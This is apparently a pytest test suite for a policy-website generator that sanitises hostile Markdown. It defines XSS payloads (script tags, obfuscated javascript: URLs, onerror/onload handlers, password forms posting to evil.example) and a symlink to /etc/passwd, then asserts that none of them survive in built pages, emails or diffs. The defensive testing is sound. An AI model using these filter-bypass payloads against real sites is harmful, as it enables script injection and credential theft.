"""A hostile repository: every payload an editor (or an attacker with write access) could put in
every place a string comes from. Nothing of it may run in a reader's browser or mail client, and
nothing but the policies may be published.

The site is built by ``mkdocs build``, the mail by ``notify --preview`` and ``notify --send`` to a
file outbox, the redline by ``diff --format html``. Every HTML document they write is parsed and
must hold no script of ours-not, no event handler, no ``javascript:``/``data:`` URL, no iframe,
form, object or embed; the built pages are then opened in Chromium, which must show no dialog.
"""

from __future__ import annotations

import email
import email.policy
import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from email.message import EmailMessage
from pathlib import Path

import lxml.etree
import lxml.html
import pytest
from playwright.sync_api import Page

from tests.conftest import REPO_ROOT, GitRepo
from tests.test_site_browser import browser_type_launch_args  # noqa: F401  (Debian's Chromium)

BIN = Path(sys.executable).parent
TODAY = "2026-03-01"
XSS = "alert('PWNED')"

MKDOCS = """
site_name: Hostile
site_url: https://policies.example.com/
docs_dir: policies
theme:
  name: material
  font: false
plugins:
  - search
  - policysite:
      service_name: Example
      sender_name: Example (Test AS)
      sender_email: privacy@example.com
      postal_address: Test AS, Storgata 1, 0155 Oslo, Norway
"""

TITLE = "Privacy Policy<img src=x onerror=alert('PWNED')>"

# Each a way raw Markdown carries script past a naive filter (issue 10, items 1-7).
PAYLOADS = f"""
<script>{XSS}</script>

<a href="java&#x09;script:{XSS}">tab in the scheme</a>

<!--><script>{XSS}</script>-->

[entity in the scheme](&#106;avascript:{XSS})

[plain](javascript:{XSS})

<iframe src="https://evil.example/frame"></iframe>

<form action="https://evil.example/steal"><input type="password" name="pw"></form>

<svg onload="{XSS}"><circle r="1"/></svg>

<p onclick="{XSS}">Click me.</p>

<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="data">

<object data="https://evil.example/x.swf"></object>
"""


def policy(version: str, effective: str, extra: str) -> str:
    return (
        f'---\ntitle: "{TITLE}"\nversion: "{version}"\neffective: {effective}\n---\n'
        f"## Data we collect {{#data}}\n\nWe collect your name{extra}.\n\n"
        f"## Dangerous things {{#danger}}\n{PAYLOADS}\n"
    )


NOTE = f"""---
material: true
---
We changed <img src=x onerror="{XSS}"> what we collect.

<form action="https://evil.example/steal">Password: <input type="password"></form>

[Read more](javascript:{XSS}) or <iframe src="https://evil.example/"></iframe>
"""

INDEX = f"""# Our policies

<script>{XSS}</script>

<img src=x onerror="{XSS}">
"""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[GitRepo]:
    """Privacy 1.0 and 2.0 (material, upcoming), each carrying every payload; a hostile home
    page, a hostile note, and files that are not policies (one of them untracked)."""
    root = tmp_path_factory.mktemp("hostile") / "site"
    root.mkdir()
    repo = GitRepo(root)
    repo.git("init", "-q", "-b", "main")
    repo.write("mkdocs.yml", MKDOCS)
    shutil.copytree(REPO_ROOT / "site_templates", root / "site_templates")
    repo.write("policies/index.md", INDEX)
    repo.write("policies/help.html", f"<script>{XSS}</script>")
    repo.write(
        "policies/logo.svg", f'<svg xmlns="http://www.w3.org/2000/svg"><script>{XSS}</script></svg>'
    )
    repo.write("changelog/privacy/1.0.md", "---\nmaterial: true\n---\nFirst.\n")
    repo.commit(policies__privacy_md=policy("1.0", "2025-01-01", ""))
    repo.write("changelog/privacy/2.0.md", NOTE)
    # The payloads 2.0 adds sit in changed text, which the redline shows (unchanged ones it
    # leaves out, so they alone would prove nothing about it).
    added = f' and your e-mail address <img src=x onerror="{XSS}"> [more](javascript:{XSS})'
    repo.commit(policies__privacy_md=policy("2.0", "2026-04-15", added))
    repo.write("policies/notes.txt", "internal: do not publish")  # never committed
    yield repo


def environment(tmp: Path) -> dict[str, str]:
    env = dict(os.environ)
    env.update(
        POLICYSITE_TODAY=TODAY,
        POLICYSITE_DATABASE_URL=f"sqlite:///{tmp / 'store.db'}",
        NO_MKDOCS_2_WARNING="1",
    )
    env.pop("POLICYSITE_SMTP_URL", None)
    return env


def run(repo: GitRepo, env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [str(BIN / args[0]), *args[1:]], cwd=repo.path, env=env, capture_output=True, text=True
    )


# --- what counts as executable -------------------------------------------------------------

_SCHEME = re.compile(r"^[\x00-\x20]*([a-z][a-z0-9+.\-]*)\s*:", re.IGNORECASE)
_URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "srcset", "poster"}
_NEVER = {"iframe", "frame", "frameset", "object", "embed", "applet", "base"}


def executable_parts(document: str, *, site_scripts: bool) -> list[str]:
    """Every element or attribute of an HTML document that could run code or send data away.

    ``site_scripts`` allows the theme's own scripts (same-site files, and inline code without
    the payloads' marker); any other script, and any script at all in mail, is reported.
    """
    tree = lxml.html.document_fromstring(document)
    found: list[str] = []
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue  # comments and processing instructions
        tag = element.tag.lower()
        if tag in _NEVER:
            found.append(f"<{tag}>")
        if tag == "script":
            src = element.get("src") or ""
            # The theme's own: same-site files, and inline code of the theme and our overrides,
            # none of which holds the payloads' marker.
            ours = site_scripts and "PWNED" not in (element.text or "") + src
            if not ours or re.match(r"^(https?:)?//", src):
                found.append(f"<script src={src!r}>{(element.text or '')[:40]}")
        if tag == "form" and not (site_scripts and "md-search__form" in element.get("class", "")):
            found.append("<form>")
        if tag == "input" and element.get("type") == "password":
            found.append("<input type=password>")
        for name, value in element.attrib.items():
            lowered = name.lower()
            if lowered.startswith("on"):
                found.append(f"<{tag} {name}=…>")
            if lowered in _URL_ATTRIBUTES:
                scheme = _SCHEME.match(re.sub(r"[\t\n\r]", "", value))
                if scheme and scheme.group(1).lower() in ("javascript", "vbscript", "data"):
                    found.append(f"<{tag} {name}={value[:40]!r}>")
    return found


def html_parts(outbox: Path) -> Iterator[tuple[str, str]]:
    for file in sorted(outbox.rglob("*.eml")):
        message = email.message_from_bytes(file.read_bytes(), policy=email.policy.default)
        assert isinstance(message, EmailMessage)
        for part in message.walk():
            if part.get_content_type() == "text/html":
                yield file.name, part.get_content()


# --- the site ---------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def built(hostile: GitRepo, tmp_path_factory: pytest.TempPathFactory) -> Path:
    tmp = tmp_path_factory.mktemp("built")
    result = run(hostile, environment(tmp), "mkdocs", "build", "-d", str(tmp / "site"))
    assert result.returncode == 0, result.stderr
    return tmp / "site"


def test_the_hostile_site_has_no_executable_content_on_any_page(built: Path) -> None:
    pages = sorted(built.rglob("*.html"))
    assert len(pages) >= 6  # home, policy, versions, two archives, a change page, changes
    found = {
        page.relative_to(built).as_posix(): parts
        for page in pages
        if (parts := executable_parts(page.read_text(encoding="utf-8"), site_scripts=True))
    }
    assert found == {}


def test_the_title_is_text_everywhere_it_is_shown(built: Path) -> None:
    page = (built / "privacy" / "index.html").read_text(encoding="utf-8")
    tree = lxml.html.document_fromstring(page)

    assert tree.findtext(".//title").startswith(TITLE)
    assert tree.xpath("string(.//h1)").strip().startswith(TITLE)
    assert tree.xpath("//img[@src='x']") == []


def test_no_page_opens_a_dialog_in_chromium(built: Path, page: Page) -> None:
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.route(
        "**/*",
        lambda route: route.continue_() if route.request.url.startswith("file:") else route.abort(),
    )
    pages = sorted(built.rglob("*.html"))
    for html_file in pages:
        page.goto(html_file.as_uri())
        page.wait_for_load_state("load")

    assert len(pages) >= 6
    assert dialogs == []


def test_only_policies_and_the_sites_own_files_are_published(built: Path) -> None:
    published = {p.name for p in built.rglob("*") if p.is_file()}

    assert published & {"help.html", "logo.svg", "notes.txt"} == set()


def test_the_feed_holds_no_markup_that_runs(built: Path) -> None:
    feed = lxml.etree.fromstring((built / "feed.xml").read_bytes())
    atom = "{http://www.w3.org/2005/Atom}"
    texts = feed.findall(f".//{atom}summary") + feed.findall(f".//{atom}content")

    assert len(texts) == 2
    for element in texts:  # shown as text by feed readers, or sanitized HTML
        kind = element.get("type", "text")
        assert kind == "text" or executable_parts(element.text or "", site_scripts=False) == []


def test_a_committed_symlink_is_refused_naming_the_link(hostile: GitRepo, tmp_path: Path) -> None:
    clone = tmp_path / "clone"
    subprocess.run(["git", "clone", "-q", str(hostile.path), str(clone)], check=True)
    (clone / "policies" / "passwd.txt").symlink_to("/etc/passwd")
    subprocess.run(["git", "-C", str(clone), "add", "policies/passwd.txt"], check=True)
    repo = GitRepo(clone)
    repo.commit("a link to a secret")

    result = run(repo, environment(tmp_path), "mkdocs", "build", "-d", str(tmp_path / "out"))

    assert result.returncode == 1
    assert "policies/passwd.txt" in result.stderr and "symlink" in result.stderr
    assert "Traceback" not in result.stderr
    assert not any((tmp_path / "out").rglob("passwd.txt"))


# --- mail, redline, check -----------------------------------------------------------------


def test_the_notice_mail_holds_no_executable_content(hostile: GitRepo, tmp_path: Path) -> None:
    env = environment(tmp_path)
    subscribers = tmp_path / "people.csv"
    subscribers.write_text("email,name,locale\na@example.com,Ann,en\nb@example.com,Bo,nb\n")
    assert (
        run(hostile, env, "policysite", "subscribers", "import", str(subscribers)).returncode == 0
    )
    outbox = tmp_path / "outbox"
    sent = run(hostile, env, "policysite", "notify", "--send", "--outbox", str(outbox))
    assert sent.returncode == 0, sent.stderr

    parts = dict(html_parts(outbox))

    assert len(parts) == 2
    assert {name: executable_parts(html, site_scripts=False) for name, html in parts.items()} == {
        name: [] for name in parts
    }


def test_the_mail_preview_holds_no_executable_content(hostile: GitRepo, tmp_path: Path) -> None:
    preview = tmp_path / "preview"
    result = run(
        hostile,
        environment(tmp_path),
        "policysite",
        "notify",
        "--preview",
        str(preview),
        "--base",
        "HEAD~1",
    )
    assert result.returncode == 0, result.stderr
    pages = sorted(preview.rglob("*.html"))

    assert pages
    assert {
        p.name: executable_parts(p.read_text(encoding="utf-8"), site_scripts=False) for p in pages
    } == {p.name: [] for p in pages}


def test_the_html_redline_holds_no_executable_content(hostile: GitRepo, tmp_path: Path) -> None:
    result = run(
        hostile, environment(tmp_path), "policysite", "diff", "privacy", "--format", "html"
    )
    assert result.returncode == 0, result.stderr

    assert "e-mail address" in result.stdout  # the changed words, with their payloads, are there
    assert executable_parts(result.stdout, site_scripts=False) == []


def test_check_reports_every_payload_as_an_error(hostile: GitRepo, tmp_path: Path) -> None:
    result = run(hostile, environment(tmp_path), "policysite", "check", "--format", "json")
    assert result.returncode == 1
    errors = [
        f
        for f in json.loads(result.stdout)["findings"]
        if f["severity"] == "error" and f["file"] == "policies/privacy.md"
    ]
    lines = {f["line"] for f in errors}
    text = (hostile.path / "policies/privacy.md").read_text(encoding="utf-8").splitlines()
    payload_lines = {
        number
        for number, line in enumerate(text, start=1)
        if re.search(r"script|<iframe|<form|onload|onclick|data:|<object|onerror", line)
        and number > 5  # the body; the title is shown as text (test above)
    }

    assert payload_lines <= lines
